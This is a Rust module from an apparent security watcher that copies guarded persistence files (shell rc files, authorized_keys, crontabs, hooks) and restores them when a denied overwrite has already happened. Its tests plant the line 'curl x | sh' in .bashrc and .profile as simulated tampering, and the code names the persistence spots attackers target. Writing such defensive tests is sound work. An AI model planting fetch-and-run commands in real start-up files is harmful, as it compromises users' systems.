//! Copies of the files the policy guards against writes (shell start-up files,
//! `authorized_keys`, crontabs, units, hooks, agent configurations), so that a denied rename,
//! link or truncate over one, which has happened by the time its hook runs, can be undone:
//! content, mode and owner put back, and a name that did not exist before removed.
//!
//! Copies are taken in the daemon's mount namespace and tied to the identity of the directory
//! they were found in; an undo acts inside the held process's own root (`sys::view`),
//! and only where that directory is the same one: a process in a namespace with other files
//! under the same name never gets the daemon's copy.
use std::{
    collections::{HashMap, HashSet},
    io::Write as _,
    os::{
        fd::AsRawFd as _,
        unix::fs::{MetadataExt as _, OpenOptionsExt as _, PermissionsExt as _},
    },
    path::{Path, PathBuf},
    sync::Mutex,
};

/// The largest file copied: guarded files are small (a bigger one is left uncopied and said so
/// at deny).
pub const FILE_MAX: u64 = 256 * 1024;
/// All copies together at most.
pub const TOTAL_MAX: u64 = 16 * 1024 * 1024;

#[derive(Debug, Clone)]
struct Copy {
    content: Vec<u8>,
    mode: u32,
    uid: u32,
    gid: u32,
    /// (dev, ino, size, mtime ns) when copied: an unchanged file is not read again.
    stamp: (u64, u64, u64, i64),
}

#[derive(Debug, Default)]
struct Copies {
    files: HashMap<PathBuf, Copy>,
    /// Directory identity (dev, ino) of each copied or skipped file's directory.
    dirs: HashMap<PathBuf, (u64, u64)>,
    /// Guarded files that exist but were left uncopied (too big, or over the total).
    skipped: HashSet<PathBuf>,
    /// Directories a guarded name may appear in, with the names guarded there and the
    /// directory's identity: a guarded name in one that is neither copied nor skipped did not
    /// exist at the last look (deny removes it).
    places: Vec<(PathBuf, globset::GlobMatcher, (u64, u64))>,
}

/// The kept copies.
#[derive(Debug, Default)]
pub struct Kept {
    copies: Mutex<Copies>,
}

/// What an undo did.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum Undo {
    Restored,
    Removed,
    /// Nothing to do: the name is the file it was.
    Unchanged,
    /// It could not be undone, and why.
    Failed(String),
}

impl Kept {
    /// Looks at the names the patterns guard again: each pattern (absolute, `*` within a
    /// component) with what `files::named` listed for it (the caller has listed them for the
    /// gate already). Copies what changed, and notes where a guarded name may appear that
    /// does not exist now.
    pub fn refresh(&self, patterns: &[(&str, &[(PathBuf, bool)])]) {
        let mut files: Vec<PathBuf> = Vec::new();
        let mut places = Vec::new();
        for (pat, named) in patterns {
            let Some((_, last)) = pat.rsplit_once('/') else {
                continue;
            };
            let Ok(m) = globset::GlobBuilder::new(last)
                .literal_separator(true)
                .build()
                .map(|g| g.compile_matcher())
            else {
                continue;
            };
            let wild = |c: &str| c.contains(['*', '?', '[']);
            for (p, dir) in named.iter() {
                match dir {
                    true => places.push((p.clone(), m.clone())),
                    false => files.push(p.clone()),
                }
            }
            // Where a literal name would be made, whether it exists or not (each home for
            // `/home/*/.profile`).
            if !wild(last) {
                let dirs = crate::sys::files::parents(pat);
                places.extend(dirs.into_iter().map(|d| (d, m.clone())));
            }
        }
        files.sort();
        files.dedup();
        let places: Vec<_> = places
            .into_iter()
            .filter_map(|(d, m)| dir_id(&d).map(|id| (d, m, id)))
            .collect();
        let mut c = self.copies.lock().unwrap_or_else(|e| e.into_inner());
        let old = std::mem::take(&mut c.files);
        c.dirs.clear();
        c.skipped.clear();
        c.places = places;
        let mut total = 0u64;
        for f in files {
            let Some(dir) = f.parent().and_then(dir_id) else {
                continue;
            };
            let Ok(md) = std::fs::symlink_metadata(&f) else {
                continue;
            };
            if !md.is_file() {
                continue;
            }
            c.dirs.insert(f.clone(), dir);
            let stamp = (
                md.dev(),
                md.ino(),
                md.len(),
                md.mtime_nsec() + md.mtime() * 1_000_000_000,
            );
            if md.len() > FILE_MAX || total + md.len() > TOTAL_MAX {
                c.skipped.insert(f);
                continue;
            }
            let copy = match old.get(&f) {
                Some(k) if k.stamp == stamp => Some(k.clone()),
                _ => read_copy(&f, stamp),
            };
            match copy {
                Some(k) => {
                    total += k.content.len() as u64;
                    c.files.insert(f, k);
                }
                None => {
                    c.skipped.insert(f);
                }
            }
        }
    }

    /// How many files are kept, and their bytes.
    pub fn size(&self) -> (usize, u64) {
        let c = self.copies.lock().unwrap_or_else(|e| e.into_inner());
        (
            c.files.len(),
            c.files.values().map(|k| k.content.len() as u64).sum(),
        )
    }

    /// Puts the guarded name `path` back as it was, as process `pid` sees it (through
    /// `/proc/PID/root`, while the process is there; `/` when it is gone). None when `path`
    /// is no guarded name.
    pub fn undo(&self, pid: u32, path: &str) -> Option<Undo> {
        let path = PathBuf::from(path);
        let (name, dir) = (path.file_name()?.to_owned(), path.parent()?.to_owned());
        let c = self.copies.lock().unwrap_or_else(|e| e.into_inner());
        let (want_dir, existed) = match c.dirs.get(&path) {
            Some(id) => (*id, true),
            None => {
                let (_, _, id) = c
                    .places
                    .iter()
                    .find(|(d, m, _)| *d == dir && m.is_match(&name))?;
                (*id, false)
            }
        };
        // The directory as the process names it, resolved inside its root (an absolute
        // symlink there is read as the process reads it); the undo then acts in the directory
        // held open, whatever is renamed meanwhile.
        let view = super::view::View::of([pid]);
        let Ok(fd) = view.dir(&dir) else {
            return Some(Undo::Failed(format!(
                "{} is not a directory this process can name",
                dir.display()
            )));
        };
        let there = PathBuf::from(format!("/proc/self/fd/{}", fd.as_raw_fd()));
        if dir_id(&there) != Some(want_dir) {
            return Some(Undo::Failed(format!(
                "{} is another directory for this process (its own mount namespace): no copy \
                 of its file was kept",
                dir.display()
            )));
        }
        let target = there.join(&name);
        if !existed {
            return Some(match std::fs::remove_file(&target) {
                Ok(()) => Undo::Removed,
                Err(e) if e.kind() == std::io::ErrorKind::NotFound => Undo::Unchanged,
                Err(e) => Undo::Failed(format!("removing it: {e}")),
            });
        }
        let Some(k) = c.files.get(&path) else {
            return Some(Undo::Failed(format!(
                "no copy was kept (files over {} KiB, or past {} MiB in all, are not)",
                FILE_MAX / 1024,
                TOTAL_MAX / 1024 / 1024
            )));
        };
        if let Ok(md) = std::fs::symlink_metadata(&target) {
            let owner = (md.mode() & 0o7777, md.uid(), md.gid()) == (k.mode, k.uid, k.gid);
            if md.is_file() && owner && std::fs::read(&target).is_ok_and(|b| b == k.content) {
                return Some(Undo::Unchanged);
            }
        }
        Some(match restore(&there, &name, k) {
            Ok(()) => Undo::Restored,
            Err(e) => Undo::Failed(format!("writing it back: {e}")),
        })
    }
}

fn dir_id(dir: &Path) -> Option<(u64, u64)> {
    let md = std::fs::metadata(dir).ok()?;
    md.is_dir().then(|| (md.dev(), md.ino()))
}

fn read_copy(f: &Path, stamp: (u64, u64, u64, i64)) -> Option<Copy> {
    let file = std::fs::OpenOptions::new()
        .read(true)
        .custom_flags(libc::O_NOFOLLOW | libc::O_NONBLOCK)
        .open(f)
        .ok()?;
    let md = file.metadata().ok()?;
    if (md.dev(), md.ino()) != (stamp.0, stamp.1) || md.len() > FILE_MAX {
        return None;
    }
    let mut content = Vec::with_capacity(md.len() as usize);
    std::io::Read::read_to_end(&mut std::io::Read::take(&file, FILE_MAX + 1), &mut content).ok()?;
    Some(Copy {
        content,
        mode: md.mode() & 0o7777,
        uid: md.uid(),
        gid: md.gid(),
        stamp,
    })
}

/// Writes the copy beside the name and renames it over, so the name is never half written:
/// a new file created exclusively (never following a link), its owner and mode set before
/// the rename.
fn restore(dir: &Path, name: &std::ffi::OsStr, k: &Copy) -> std::io::Result<()> {
    let tmp = dir.join(format!(
        ".{}.watcher-restore-{}",
        name.to_string_lossy(),
        std::process::id()
    ));
    let _ = std::fs::remove_file(&tmp);
    let mut f = std::fs::OpenOptions::new()
        .write(true)
        .create_new(true)
        .custom_flags(libc::O_NOFOLLOW)
        .mode(0o600)
        .open(&tmp)?;
    let done = (|| {
        f.write_all(&k.content)?;
        std::os::unix::fs::fchown(&f, Some(k.uid), Some(k.gid))?;
        f.set_permissions(std::fs::Permissions::from_mode(k.mode))?;
        f.sync_all()?;
        std::fs::rename(&tmp, dir.join(name))
    })();
    if done.is_err() {
        let _ = std::fs::remove_file(&tmp);
    }
    done
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn a_replaced_file_comes_back_and_a_new_name_goes() {
        let dir = std::env::temp_dir().join(format!("watcher-keep-{}", std::process::id()));
        std::fs::create_dir_all(&dir).unwrap();
        let rc = dir.join(".bashrc");
        std::fs::write(&rc, b"# mine\n").unwrap();
        std::fs::set_permissions(&rc, std::fs::Permissions::from_mode(0o640)).unwrap();
        let new = dir.join(".profile");
        let kept = Kept::default();
        let (a, b) = (rc.display().to_string(), format!("{}/.pro*", dir.display()));
        let (na, nb) = (crate::sys::files::named(&a), crate::sys::files::named(&b));
        kept.refresh(&[(&a, &na), (&b, &nb)]);
        assert_eq!(kept.size().0, 1);
        let me = std::process::id();
        let evil = dir.join("evil");
        std::fs::write(&evil, b"curl x | sh\n").unwrap();
        std::fs::rename(&evil, &rc).unwrap();
        std::fs::write(&new, b"x").unwrap();
        assert_eq!(kept.undo(me, rc.to_str().unwrap()), Some(Undo::Restored));
        assert_eq!(std::fs::read(&rc).unwrap(), b"# mine\n");
        assert_eq!(std::fs::metadata(&rc).unwrap().mode() & 0o7777, 0o640);
        assert_eq!(kept.undo(me, new.to_str().unwrap()), Some(Undo::Removed));
        assert!(!new.exists());
        assert_eq!(kept.undo(me, rc.to_str().unwrap()), Some(Undo::Unchanged));
        assert_eq!(kept.undo(me, "/etc/not-guarded"), None);
        let _ = std::fs::remove_dir_all(&dir);
    }

    /// A literal name under a wildcard directory (`~/.profile` is `/home/*/.profile`) that does
    /// not exist yet: made in any of those directories, it is removed.
    #[test]
    fn a_new_literal_name_under_a_wildcard_directory_goes() {
        let dir = std::env::temp_dir().join(format!("watcher-keep-wild-{}", std::process::id()));
        let home = dir.join("alice");
        std::fs::create_dir_all(&home).unwrap();
        let pat = format!("{}/*/.profile", dir.display());
        let named = crate::sys::files::named(&pat);
        let kept = Kept::default();
        kept.refresh(&[(&pat, &named)]);
        let new = home.join(".profile");
        std::fs::write(&new, b"curl x | sh\n").unwrap();
        let undo = kept.undo(std::process::id(), new.to_str().unwrap());
        let gone = !new.exists();
        let _ = std::fs::remove_dir_all(&dir);
        assert_eq!(undo, Some(Undo::Removed));
        assert!(gone);
    }
}
